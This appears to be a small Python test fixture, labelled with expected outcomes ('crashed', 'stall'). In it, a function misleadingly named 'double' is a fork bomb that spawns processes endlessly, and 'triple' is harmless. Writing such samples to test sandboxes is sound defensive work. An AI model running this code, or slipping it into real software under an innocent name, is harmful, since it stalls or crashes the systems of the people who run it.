"""Forks for ever; every child forks too.

must: crashed
harm: stall
"""

import os


def double(x):
    while True:
        os.fork()


def triple(x):
    return 3 * x
